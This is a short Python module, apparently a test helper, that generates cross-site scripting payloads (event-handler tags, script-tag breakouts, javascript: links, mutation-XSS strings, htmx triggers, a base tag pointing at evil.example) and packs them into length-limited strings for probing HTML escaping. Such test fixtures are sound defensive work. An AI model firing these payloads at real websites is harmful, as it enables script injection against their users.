"""Words that would be run by a page that takes them for HTML, and texts packed with them."""

from collections.abc import Iterable, Iterator

_TAGS = ["img src=x", "svg", "body", "details open", "video src=x", "input autofocus", "a tabindex=0", "p", "math"]
_HANDLERS = ["onerror", "onload", "ontoggle", "onfocus", "onanimationstart"]
PAYLOADS = [f"<{tag} {handler}=alert(1)>" for tag in _TAGS for handler in _HANDLERS] + [
    "<script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "<!--><script>alert(1)</script>-->",
    '"><script>alert(1)</script>',
    "'\" autofocus onfocus=alert(1) x='",
    "<p hx-get=/sign-out/ hx-trigger=load>",
    "<p data-hx-on:load=alert(1)>",
    "<a href=javascript:alert(1)>x</a>",
    "[x](javascript:alert(1))",
    "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<form action=javascript:alert(1)><button>x</button></form>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "{{ 7*7 }}<style>@import 'javascript:alert(1)'</style>",
]


def texts(most: int) -> list[str]:
    """Every attempt that is no longer than `most`, as few texts of that length as hold them all."""
    return list(_packed((words for words in PAYLOADS if len(words) <= most), most))


def _packed(words: Iterable[str], most: int) -> Iterator[str]:
    text = ""
    for word in words:
        if len(text) + len(word) > most:
            yield text
            text = ""
        text += word
    yield text
